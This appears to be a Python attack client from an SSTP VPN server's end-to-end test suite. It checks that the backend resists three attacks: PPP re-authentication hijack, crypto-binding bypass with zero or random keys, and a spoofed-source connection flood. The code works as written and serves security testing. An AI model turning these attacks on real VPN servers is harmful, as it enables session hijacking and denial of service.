#!/usr/bin/python3
"""attacker.py — an SSTP client that attacks sstp-backend's crypto binding
with its own PPP (lib/pppclient.py), for the e2e guest scenarios. It plays
what a real attacker can do; it never reads the server's keys.

  attacker.py reauth HOST PORT USER_A PASS_A USER_B PASS_B SERVER_IP [WHEN]
      Logs in as A with MS-CHAPv2, sends a correct CALL_CONNECTED (A's own
      keys), brings IPCP up and pings SERVER_IP as A. Then sends an LCP
      Configure-Request on the open link, answers the new CHAP Challenge as
      B (B's password stands in for the victim's relayed answer: the wire
      bytes are the same) and tries IPCP and a ping as B. WHEN "early": the
      LCP Configure-Request goes right after A's CHAP Success, before
      CALL_CONNECTED (pppd still waits for the binding then), and no IPCP
      as A is tried.
  attacker.py binding HOST PORT USER PASS SERVER_IP HLAK
      Logs in as USER, then sends CALL_CONNECTED with the compound MAC made
      over HLAK: "zero" (32 zero bytes, what a server without keys would
      accept), "random" (a relay that lacks the keys) or "right" (the keys
      of this exchange: the control case). Then tries IPCP and a ping.
  attacker.py flood HOST PORT SRC N STOPFILE SECS
      N calls to a PROXY-header listener (plain TCP, as sstp-proxy speaks
      to a backend), each claiming client SRC: PROXY v2, HTTP, then
      CONNECT_REQUEST, and nothing more (negotiations left open). SRC is an
      address, or an IPv6 prefix ("2001:db8:1::/64") whose call i claims
      its address i+1. Holds them until STOPFILE exists or SECS pass.

Prints key=value lines (the last one "done=1") for the guest script to
check; exit status 0 unless the attack could not be staged at all (2).
Every wait is bounded.
"""
import ipaddress
import os
import selectors
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pppclient as pc  # noqa: E402
from pppclient import sc  # noqa: E402

STEP_S = 8.0        # longest wait for one PPP step (UML is slow)


def out(**kv):
    for k, v in kv.items():
        print("%s=%s" % (k, v), flush=True)


def stage_fail(why):
    out(stage_error='"%s"' % why, done=1)
    sys.exit(2)


def open_call(host, port):
    """TLS, HTTP and CONNECT_REQUEST to the backend's TLS listener."""
    c = sc.SstpClient(host, port, tls=True, sni=None, timeout=STEP_S)
    status, _ = c.http_handshake(timeout=STEP_S)
    if status != 200:
        stage_fail("HTTP status %s" % status)
    p = c.sstp_connect(timeout=STEP_S)
    if getattr(p, "msg_type", None) != sc.CONNECT_ACK:
        stage_fail("no CONNECT_ACK: %r" % p)
    return c


def authenticate(peer, user, password):
    """LCP up (ours and theirs), then MS-CHAPv2 as user. Returns
    ("success" | "failure" | "none", NT-Response or None)."""
    peer.auth_challenge = None
    peer.lcp_request()
    return authenticate_after_request(peer, user, password)


def authenticate_after_request(peer, user, password):
    """authenticate() once our LCP Configure-Request is out."""
    if not peer.wait(lambda: peer.auth_challenge is not None, STEP_S):
        return "none", None
    resp = peer.chap_respond(user, password)
    peer.wait(lambda: peer.chap_result is not None, STEP_S)
    return peer.chap_result or "none", resp


def ip_and_ping(peer, server_ip):
    """IPCP, then up to 3 pings to server_ip. Returns (ip or "-", replies)."""
    peer.ip = None
    peer.ipcp_up = False
    peer.ipcp_request()
    if not peer.wait(lambda: peer.ipcp_up, STEP_S):
        return "-", 0
    before = peer.echo_replies
    for seq in range(1, 4):
        peer.ping(server_ip, seq)
        if peer.wait(lambda: peer.echo_replies > before, 1.5):
            break
    return ".".join(map(str, peer.ip)), peer.echo_replies - before


def finish(peer):
    """Lets the server's verdict arrive, then reports how the call ended."""
    peer.wait(lambda: False, 3.0)
    out(end=peer.closed or "open", abort_status=peer.abort_status, events='"%s"' % ",".join(peer.log))


def cmd_reauth(host, port, user_a, pass_a, user_b, pass_b, server_ip, when="open"):
    c = open_call(host, port)
    peer = pc.PppPeer(c)
    result, resp = authenticate(peer, user_a, pass_a)
    out(a_auth=result)
    if result != "success":
        stage_fail("A could not authenticate")
    if when == "early":
        # queued behind the binding: pppd reads it once its AUTH is acked
        peer.auth_challenge = None
        peer.lcp_request()
        c.call_connected(pc.client_hlak(pass_a, resp))
        result, _ = authenticate_after_request(peer, user_b, pass_b)
    else:
        c.call_connected(pc.client_hlak(pass_a, resp))
        ip, replies = ip_and_ping(peer, socket.inet_aton(server_ip))
        out(a_ip=ip, a_ping=replies)
        if replies == 0:
            stage_fail("A's own session passed no ping: the attack cannot be judged")
        # On the open link: LCP Configure-Request, pppd renegotiates and
        # authenticates the peer again (RFC 1661 4.3: Opened + RCR).
        result, _ = authenticate(peer, user_b, pass_b)
    out(b_challenge=int(peer.auth_challenge is not None), b_auth=result)
    if result == "success" and peer.closed is None:
        ip, replies = ip_and_ping(peer, socket.inet_aton(server_ip))
        out(b_ip=ip, b_ping=replies)
    else:
        out(b_ip="-", b_ping=0)
    finish(peer)
    out(done=1)


def cmd_binding(host, port, user, password, server_ip, which):
    c = open_call(host, port)
    peer = pc.PppPeer(c)
    result, resp = authenticate(peer, user, password)
    out(auth=result)
    if result != "success":
        stage_fail("could not authenticate")
    hlak = {"zero": b"\0" * 32, "random": os.urandom(32),
            "right": pc.client_hlak(password, resp)}[which]
    c.call_connected(hlak)
    ip, replies = "-", 0
    if peer.closed is None:
        ip, replies = ip_and_ping(peer, socket.inet_aton(server_ip))
    out(ip=ip, ping=replies)
    finish(peer)
    out(done=1)


def cmd_flood(host, port, src, n, stopfile, secs):
    """n negotiations at once; counts the CONNECT_ACKs."""
    def source(i):
        if "/" not in src:
            return src, host
        # the PROXY header's two addresses share a family
        return str(ipaddress.ip_network(src).network_address + i + 1), "2001:db8::1"
    sel = selectors.DefaultSelector()
    conns = {}
    request = (b"SSTP_DUPLEX_POST " + sc.SSTP_URI.encode() + b" HTTP/1.1\r\nHost: flood\r\n"
               b"Content-Length: " + sc.SSTP_CONTENT_LENGTH.encode() + b"\r\n\r\n" + sc.connect_request())
    t0 = time.monotonic()
    for i in range(n):
        s = socket.socket()
        s.settimeout(STEP_S)
        try:
            s.connect((host, port))
            s.sendall(sc.proxy_v2(*source(i), 20000 + i, port) + request)
        except OSError:
            s.close()
            continue
        s.setblocking(False)
        sel.register(s, selectors.EVENT_READ)
        conns[s] = b""
    out(opened=len(conns), open_s="%.1f" % (time.monotonic() - t0))
    acked = refused = 0
    pending = set(conns)
    deadline = time.monotonic() + secs
    while pending and time.monotonic() < deadline:
        for key, _ in sel.select(0.2):
            s = key.fileobj
            try:
                chunk = s.recv(4096)
            except OSError:
                chunk = b""
            conns[s] += chunk
            buf = conns[s]
            head, sep, rest = buf.partition(b"\r\n\r\n")
            if s in pending and sep and len(rest) >= 8:
                msg = struct.unpack(">H", rest[4:6])[0]
                pending.discard(s)
                if head.startswith(b"HTTP/1.1 200") and msg == sc.CONNECT_ACK:
                    acked += 1
                else:
                    refused += 1
            if not chunk:
                sel.unregister(s)
                if s in pending:
                    pending.discard(s)
                    refused += 1
    out(acked=acked, refused=refused, unanswered=len(pending))
    while not os.path.exists(stopfile) and time.monotonic() < deadline:
        time.sleep(0.1)
    for s in conns:
        s.close()
    out(done=1)


def main(argv):
    if len(argv) in (9, 10) and argv[1] == "reauth" and argv[9:] in ([], ["open"], ["early"]):
        cmd_reauth(argv[2], int(argv[3]), *argv[4:])
    elif len(argv) == 8 and argv[1] == "binding" and argv[7] in ("zero", "random", "right"):
        cmd_binding(argv[2], int(argv[3]), *argv[4:8])
    elif len(argv) == 8 and argv[1] == "flood":
        cmd_flood(argv[2], int(argv[3]), argv[4], int(argv[5]), argv[6], float(argv[7]))
    else:
        print(__doc__, file=sys.stderr)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
